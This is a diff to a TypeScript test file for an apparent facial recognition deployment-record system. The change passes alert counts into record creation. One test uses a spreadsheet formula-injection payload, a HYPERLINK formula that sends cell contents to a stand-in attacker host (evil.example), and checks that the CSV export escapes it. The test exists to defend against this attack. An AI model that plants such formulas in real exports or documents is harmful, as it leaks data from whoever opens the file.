@@ -12,6 +12,7 @@ import { builtInPacks } from '../faces/packs.ts';
 import { DomainError } from '../shared/domain-error.ts';
 import { sharedPath } from '../shared/paths.ts';
 import { deploymentRecord, recordsToCsv } from './deployment-record.ts';
+import { emptyCounts } from './deployment-counts.ts';
 import type { DraftInput } from './deployment.service.ts';
 
 const lfw = (name: string, n: number): Buffer =>
@@ -317,7 +318,7 @@ for (const target of testDatabases()) {
       const reviewed = await s.deployments.review(d!.id, { summary: 'one arrest, one false alert' }, 'auth.officer');
       assert.equal(reviewed.status, 'reviewed');
       const alerts = await s.alerts.list(d!.id, { limit: 100, offset: 0 });
-      const record = deploymentRecord(reviewed, alerts, 1);
+      const record = deploymentRecord(reviewed, alerts, 1, await s.deployments.counts(d!.id));
       assert.equal(record.totalAlerts, 2);
       assert.equal(record.positiveAlerts, 1);
       assert.equal(record.incorrectAlerts, 1);
@@ -465,7 +466,7 @@ for (const target of testDatabases()) {
         draft({ name: '=HYPERLINK("http://evil.example/?"&A1,"x")', deployment_type: '+overt LFR' }),
         'planner',
       );
-      const [, row] = recordsToCsv([deploymentRecord(d, [], [])]).split('\r\n');
+      const [, row] = recordsToCsv([deploymentRecord(d, [], [], emptyCounts)]).split('\r\n');
       assert.match(row!, /^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",/);
       assert.match(row!, /,'\+overt LFR,/);
     });
